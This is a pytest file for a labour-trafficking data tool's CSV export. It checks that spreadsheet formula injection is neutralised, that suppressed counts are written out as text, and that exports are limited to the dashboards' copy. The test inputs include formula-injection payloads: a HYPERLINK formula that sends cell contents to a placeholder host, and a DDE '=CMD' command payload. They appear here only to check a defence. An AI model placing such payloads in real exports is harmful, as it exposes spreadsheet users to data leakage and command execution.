"""CSV exports for field officers: formula injection neutralised, numbers kept,
suppressed cells spelled out, read from the dashboards' copy only."""

from __future__ import annotations

import csv
import datetime as dt
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.privacy.marts import build_warehouse
from tppo.config import Paths
from tppo.privacy.export import SUPPRESSED_TEXT, neutralise, write_csv
from tppo.publish import publish

TPPO = str(Path(sys.executable).with_name("tppo"))
HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


@pytest.mark.parametrize("cell", [HYPERLINK, "+62 812", "-1+1", "@SUM(A1)", "\t=1+1",
                                  "\r=1+1", "\uff1d1+1"])
def test_cells_a_spreadsheet_would_run_as_formulas_become_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["PT MAJU JAYA", "1809", "a=b", "", None, 12, -3, 2.5])
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_written_csv_reads_back_with_every_risky_cell_as_text(tmp_path):
    out = tmp_path / "x.csv"
    write_csv(out, ["name", "n"], [(HYPERLINK, 5), ("PT; \"KUTIP\"", -2)])
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows == [["name", "n"], ["'" + HYPERLINK, "5"], ["PT; \"KUTIP\"", "-2"]]


def test_export_command_writes_a_safe_csv_of_the_dashboards_copy(tmp_path):
    p = Paths(landing=tmp_path / "landing", home=tmp_path / "home")
    build_warehouse(p, {("WAYLAYAP", "tppo_victims"): [3, 0, 0],
                                  ("KALIREJO", "tppo_victims"): [6, 0, 0]}, recruiters=[
        ("P-1", "LICENSED_P3MI", "P3MI-1", HYPERLINK, "AKTIF", dt.date(2020, 1, 1), True, 12,
         140, 9, 7, 0, 0, dt.date(2024, 1, 1), dt.date(2025, 3, 18)),
        ("R-1", "INFORMAL", None, "=CMD|' /C calc'!A0", None, None, False, 3, 0, 5, 5, 1, 1,
         dt.date(2025, 1, 1), dt.date(2025, 3, 1))])
    publish(p)
    env = {**os.environ, "TPPO_HOME": str(p.home), "TPPO_LANDING": str(p.landing)}
    run = subprocess.run([TPPO, "export", "mart_recruiter_watchlist"], env=env,
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    out = p.home / "exports" / "mart_recruiter_watchlist.csv"
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    assert [r["recruiter_name"] for r in rows] == ["'" + HYPERLINK]  # no informal recruiter
    assert rows[0]["placements"] == "140"
    run = subprocess.run([TPPO, "export", "mart_village_risk", "--regency", "1809",
                          "--month", "2025-01"], env=env, capture_output=True, text=True,
                         timeout=120)
    assert run.returncode == 0, run.stderr
    with open(p.home / "exports" / "mart_village_risk_1809_2025-01.csv", encoding="utf-8-sig",
              newline="") as fh:
        villages = {r["village_name"]: r for r in csv.DictReader(fh, delimiter=";")}
    assert set(villages) == {"WAYLAYAP", "BAGELEN", "KALIREJO"}
    assert villages["WAYLAYAP"]["tppo_victims"] == SUPPRESSED_TEXT
    assert villages["BAGELEN"]["tppo_victims"] == "0"
    assert not [c for c in villages["WAYLAYAP"] if c.endswith("_suppressed")]
    refused = subprocess.run([TPPO, "export", "fct_departures"], env=env, capture_output=True,
                             text=True, timeout=120)
    assert refused.returncode == 2 and "not in the dashboards' copy" in refused.stderr
